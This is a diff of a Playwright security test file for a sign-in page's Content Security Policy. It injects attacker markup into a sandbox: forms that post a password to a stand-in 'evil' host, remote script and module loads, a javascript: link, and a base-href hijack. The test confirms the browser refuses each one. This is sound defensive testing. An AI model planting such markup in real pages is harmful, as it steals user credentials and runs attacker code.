@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { expect, type Page } from '@playwright/test';
+import { expect } from '@playwright/test';
 import { dist } from '#env/commands/shared/projectRoot.ts';
 import { test } from '#tests/e2e/fixtures/test.ts';
 import type { Sandbox } from '#tests/e2e/fixtures/sandboxTest.ts';
@@ -21,43 +21,44 @@ const injectMarkup = async (sandbox: Sandbox, place: '<head>' | '</body>', marku
   });
 };
 
-const secretField = '<input name="password" aria-label="Confirm your password">';
-
-const violation = (page: Page, directive: string): Promise<unknown> =>
-  page.waitForEvent('console', (message) => new RegExp(`["']${directive} `).test(message.text()));
+/** Whether a line of the console says that a directive refused something. */
+const isRefusal = (line: string, directive: string, refused: string): boolean =>
+  line.includes(refused) && new RegExp(`["']${directive} `).test(line);
 
 const leaks = async (sandbox: Sandbox): Promise<ReadonlyArray<string>> =>
   (await sandbox.requests('')).filter(({ host }) => host === 'evil.localhost').map(({ path }) => path);
 
-const forms: ReadonlyArray<readonly [what: string, markup: (evil: string) => string]> = [
-  ['a form', (evil) => `<form action="${evil}" method="post">${secretField}<button>Confirm</button></form>`],
-  [
-    'a form that sends with an address',
-    (evil) => `<form action="${evil}">${secretField}<button>Confirm</button></form>`,
-  ],
-  ['a button', (evil) => `<form action="/signin">${secretField}<button formaction="${evil}">Confirm</button></form>`],
+/** Forms that send a password to another site. */
+const forms = (evil: string): ReadonlyArray<string> => [
+  `<form action="${evil}/1" method="post"><input name="password" aria-label="Password 1"><button>Confirm 1</button></form>`,
+  `<form action="${evil}/2"><input name="password" aria-label="Password 2"><button>Confirm 2</button></form>`,
+  `<form action="/signin"><input name="password" aria-label="Password 3"><button formaction="${evil}/3">Confirm 3</button></form>`,
 ];
 
-for (const [what, markup] of forms) {
-  test(`${what} that an attacker adds to the sign-in page sends nothing to another site`, async ({
-    page,
-    sandbox,
-    pageErrors,
-  }) => {
-    pageErrors.expect(/form-action/);
-    await injectMarkup(sandbox, '</body>', markup(`${sandbox.origin('evil')}/form`));
-    await page.goto('/signin');
-    // Because: a prerendered page, which has only its own language in the list, keeps what is sent until the script of the app is there.
-    await expect(page.getByRole('option', { name: 'Dansk' })).toHaveCount(1);
-    await page.getByLabel('Confirm your password').fill('Correct-horse-9');
-    const refused = violation(page, 'form-action');
-    // Because: Playwright waits for the navigation of a form, which never comes.
-    await page.getByRole('button', { name: 'Confirm', exact: true }).click({ noWaitAfter: true });
+test('a form or a button that an attacker adds to the sign-in page sends nothing to another site', async ({
+  page,
+  sandbox,
+  pageErrors,
+}) => {
+  pageErrors.expect(/form-action/);
+  const evil = sandbox.origin('evil');
+  await injectMarkup(sandbox, '</body>', forms(evil).join(''));
+  await page.goto('/signin');
+  // Because: a prerendered page, which has only its own language in the list, keeps what is sent until the script of the app is there.
+  await expect(page.getByRole('option', { name: 'Dansk' })).toHaveCount(1);
+  await page.getByLabel('Password 1').focus();
+  // Because: Playwright finds nothing more in a page once it waits for the navigation of a form, which never comes.
+  for (const address of ['/1', '/2', '/3']) {
+    const refused = page.waitForEvent('console', (message) => isRefusal(message.text(), 'form-action', evil + address));
+    await page.keyboard.type('Correct-horse-9');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
     await refused;
-    expect(page.url()).toBe(`${sandbox.origin('account.xe')}/signin`);
-    expect(await leaks(sandbox)).toEqual([]);
-  });
-}
+    await page.keyboard.press('Tab');
+  }
+  expect(page.url()).toBe(`${sandbox.origin('account.xe')}/signin`);
+  expect(await leaks(sandbox)).toEqual([]);
+});
 
 test('a base address that an attacker adds does not move the scripts, links and forms of the page', async ({
   page,
@@ -65,8 +66,9 @@ test('a base address that an attacker adds does not move the scripts, links and 
   pageErrors,
 }) => {
   pageErrors.expect(/base-uri|Missing (?:platform|redirectUrl)/);
-  await injectMarkup(sandbox, '<head>', `<base href="${sandbox.origin('evil')}/">`);
-  const refused = violation(page, 'base-uri');
+  const evil = sandbox.origin('evil');
+  await injectMarkup(sandbox, '<head>', `<base href="${evil}/">`);
+  const refused = page.waitForEvent('console', (message) => isRefusal(message.text(), 'base-uri', evil));
   await page.goto('/signin');
   await refused;
   expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
@@ -82,18 +84,19 @@ declare global {
 
 const attack = (name: string): string => `globalThis.attacks = [...(globalThis.attacks ?? []), '${name}']`;
 
-/** Markup by the directive that must refuse it. */
-const scripts = (evil: string): ReadonlyArray<readonly [directive: string, markup: string]> => [
-  ['script-src', `<script>${attack('inline')}</script>`],
-  ['script-src', `<img src="/brands/xe/logo.svg" alt="" onload="${attack('handler')}">`],
-  ['script-src', `<script src="${evil}/script.js"></script>`],
-  ['script-src', `<script type="module">import '${evil}/module.js'</script>`],
-  ['style-src', '<style>body { display: none }</style>'],
-  ['style-src', `<link rel="stylesheet" href="${evil}/style.css">`],
-  ['img-src', `<img src="${evil}/image.png" alt="">`],
-  ['object-src', `<object data="${evil}/object.svg"></object>`],
-  ['default-src', `<iframe title="Advert" src="${evil}/frame"></iframe>`],
-  ['default-src', `<video src="${evil}/video.mp4"></video>`],
+/** Markup, the directive that must refuse it, and how the browser names what it refused. */
+const attackMarkups = (evil: string): ReadonlyArray<readonly [directive: string, refused: string, markup: string]> => [
+  ['script-src', 'inline script', `<script>${attack('inline')}</script>`],
+  ['script-src', 'inline event handler', `<img src="/brands/xe/logo.svg" alt="" onload="${attack('handler')}">`],
+  ['script-src', `${evil}/script.js`, `<script src="${evil}/script.js"></script>`],
+  ['script-src', `${evil}/module.js`, `<script type="module" src="${evil}/module.js"></script>`],
+  ['script-src', 'JavaScript URL', `<a href="javascript:${attack('link')}">Your prize</a>`],
+  ['style-src', 'inline style', '<style>body { display: none }</style>'],
+  ['style-src', `${evil}/style.css`, `<link rel="stylesheet" href="${evil}/style.css">`],
+  ['img-src', `${evil}/image.png`, `<img src="${evil}/image.png" alt="">`],
+  ['object-src', `${evil}/object.svg`, `<object data="${evil}/object.svg"></object>`],
+  ['default-src', `Framing '${evil}`, `<iframe title="Advert" src="${evil}/frame"></iframe>`],
+  ['default-src', `${evil}/video.mp4`, `<video src="${evil}/video.mp4"></video>`],
 ];
 
 test('markup that an attacker adds runs no script, changes no style and calls no other site', async ({
@@ -102,24 +105,16 @@ test('markup that an attacker adds runs no script, changes no style and calls no
   pageErrors,
 }) => {
   pageErrors.expect(/(?:script|style|img|object|default|frame|media)-src/);
-  for (const [directive, markup] of scripts(sandbox.origin('evil'))) {
-    await sandbox.clearFaults();
-    await injectMarkup(sandbox, '</body>', markup);
-    const refused = violation(page, directive);
-    await page.goto('/signin');
-    await refused;
-    await expect(signInPage(page).email).toBeVisible();
-  }
+  const markups = attackMarkups(sandbox.origin('evil'));
+  const lines: string[] = [];
+  page.on('console', (message) => lines.push(message.text()));
+  await injectMarkup(sandbox, '</body>', markups.map(([, , markup]) => markup).join(''));
+  await page.goto('/signin');
+  await page.getByRole('link', { name: 'Your prize' }).click();
+  const accepted = () =>
+    markups.filter(([directive, refused]) => !lines.some((line) => isRefusal(line, directive, refused)));
+  await expect.poll(accepted).toEqual([]);
+  await expect(signInPage(page).email).toBeVisible();
   expect(await page.evaluate(() => globalThis.attacks)).toBeUndefined();
   expect(await leaks(sandbox)).toEqual([]);
-});
-
-test('an attacker’s link with a script runs nothing', async ({ page, sandbox, pageErrors }) => {
-  pageErrors.expect(/script-src/);
-  await injectMarkup(sandbox, '</body>', `<a href="javascript:${attack('link')}">Your prize</a>`);
-  await page.goto('/signin');
-  const refused = violation(page, 'script-src');
-  await page.getByRole('link', { name: 'Your prize' }).click();
-  await refused;
-  expect(await page.evaluate(() => globalThis.attacks)).toBeUndefined();
 });
